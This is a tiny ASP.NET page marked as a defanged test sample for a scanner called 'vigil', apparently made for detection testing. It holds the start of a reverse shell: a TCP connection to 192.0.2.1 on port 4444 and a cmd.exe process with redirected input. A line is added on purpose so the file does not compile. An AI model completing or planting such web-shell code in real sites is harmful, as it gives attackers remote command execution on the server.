<%@ Page Language="C#" %>
<%-- DEFANGED vigil test sample (see README): the block below does not compile. --%>
<% DEFANGED SAMPLE does not compile %>
<%
    var client = new System.Net.Sockets.TcpClient("192.0.2.1", 4444);
    var p = new System.Diagnostics.Process();
    p.StartInfo.FileName = "cmd.exe";
    p.StartInfo.RedirectStandardInput = true;
%>
